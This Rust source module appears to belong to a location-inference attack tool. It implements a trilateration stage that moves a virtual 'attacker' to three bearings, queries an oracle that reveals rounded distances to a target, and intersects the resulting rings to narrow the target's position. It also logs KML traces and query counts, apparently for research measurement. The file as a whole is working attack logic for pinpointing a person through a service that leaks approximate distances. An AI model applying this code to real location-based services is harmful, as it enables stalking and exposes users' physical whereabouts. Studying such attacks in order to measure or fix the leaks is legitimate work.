//! Trilateration stage: three ring intersections from three attacker
//! positions 120° apart, seeding the search polygon for bisection.

use geo::{BooleanOps, MultiPolygon};
use thiserror::Error;
use tracing::{debug, info};

use crate::attacker::{AttackerError, Clock};
use crate::context::AttackContext;
use crate::geodesy::point_on_earth;
use crate::geometry::{self, GeometryError};
use crate::host::LocationHost;
use crate::kml::{self, KmlError};
use crate::oracle::{Answer, Oracle};
use crate::projection::Projection;
use crate::trace::Stream;
use crate::types::TypeError;

#[derive(Error, Debug)]
#[non_exhaustive]
pub enum TrilaterationError {
    #[error(transparent)]
    Geometry(#[from] GeometryError),
    #[error(transparent)]
    Attacker(#[from] AttackerError),
    #[error(transparent)]
    Kml(#[from] KmlError),
    #[error(transparent)]
    Type(#[from] TypeError),
}

pub type Result<T> = std::result::Result<T, TrilaterationError>;

const BEARINGS_DEG: [f64; 3] = [0.0, 120.0, 240.0];

/// Runs the three-ring trilateration pass over `search_area`, returning the
/// refined candidate polygon. Returns `Ok(None)` if any ring intersection's
/// disclosed distance falls outside every configured rounding class (the
/// oracle gave us no band to invert), and the caller must abort this attack.
pub fn run_trilateration<H: LocationHost, C: Clock, P: Projection>(
    ctx: &mut AttackContext<H, C, P>,
    search_area: &MultiPolygon<f64>,
    oracle: &Oracle,
) -> Result<Option<MultiPolygon<f64>>> {
    let mut candidate = search_area.clone();

    if ctx.current_attacker_location().is_none() {
        let centroid = geometry::poly_centroid(&candidate, ctx.proj)?;
        ctx.place_attacker_at(centroid)?;
    }

    for (i, bearing_deg) in BEARINGS_DEG.iter().enumerate() {
        let here = ctx
            .current_attacker_location()
            .expect("attacker was just placed");

        let answer = ctx.probe(oracle, here)?;
        let d_km = match answer {
            Answer::Rounded(Some(d)) => d,
            _ => {
                debug!(iteration = i, "trilateration probe returned no distance");
                return Ok(None);
            }
        };

        // Located explicitly from the class list rather than trusting
        // whatever class a prior loop body last touched.
        let class = match oracle.classify(d_km) {
            Some(cl) => cl,
            None => {
                debug!(d_km, "no rounding class matches disclosed distance");
                return Ok(None);
            }
        };
        let (d_lo, d_hi) = class.invert(d_km);

        if let Some(ring) = geometry::ring(&here, d_hi * 1000.0, d_lo * 1000.0, ctx.proj, ctx.config.ec)? {
            let inter = candidate.intersection(&ring);
            candidate = if inter.0.is_empty() { ring } else { inter };
        }

        if let Some(kml_dir) = ctx.kml_dir {
            let (path, _) = kml::write_kml(
                &candidate,
                ctx.proj,
                kml_dir,
                ctx.service,
                "rudp",
                ctx.test_id,
                ctx.pool.restart_times,
                ctx.queries,
                "ring",
            )?;
            let area = {
                use geo::Area;
                candidate.unsigned_area()
            };
            ctx.trace.push_probe(Stream::Rudp, ctx.queries, path.display().to_string(), area);
        }

        let next_point = point_on_earth(&here, (d_lo + d_hi) / 2.0, *bearing_deg)?;
        ctx.place_attacker_at(next_point)?;
    }

    info!("trilateration complete");
    Ok(Some(candidate))
}
